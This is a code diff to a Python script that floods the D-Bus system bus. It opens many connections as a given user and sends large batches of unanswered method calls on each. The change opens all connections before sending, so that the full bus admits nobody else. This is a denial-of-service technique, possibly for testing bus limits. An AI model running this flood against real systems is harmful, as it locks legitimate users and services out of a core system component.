@@ -16,7 +16,7 @@ DEPTH = 128  # calls without an answer that the system bus allows a connection
 
 
 class _Connection:
-    def __init__(self, member, body, depth):
+    def __init__(self, member, body):
         self.connection = open_dbus_connection(ADDRESS)
         self.socket = self.connection.sock
         message = new_method_call(DBusAddress(PATH, bus_name=NAME, interface=INTERFACE), member,
@@ -24,7 +24,6 @@ class _Connection:
         self.message = bytearray(message.serialise(serial=1))
         self.serial = 1000
         self.received = b""
-        self.send(depth)
 
     def send(self, count):
         for _ in range(count):
@@ -51,9 +50,11 @@ def _flood(user, connections, depth, member, body, ready):
     os.setgid(user)
     os.setuid(user)
     chosen = selectors.DefaultSelector()
-    for _ in range(connections):
-        connection = _Connection(member, body, depth)
+    # All of them first: a bus that is full lets nobody in.
+    flooding = [_Connection(member, body) for _ in range(connections)]
+    for connection in flooding:
         chosen.register(connection.socket, selectors.EVENT_READ, connection)
+        connection.send(depth)
     ready.set()
     while True:
         for key, _ in chosen.select():
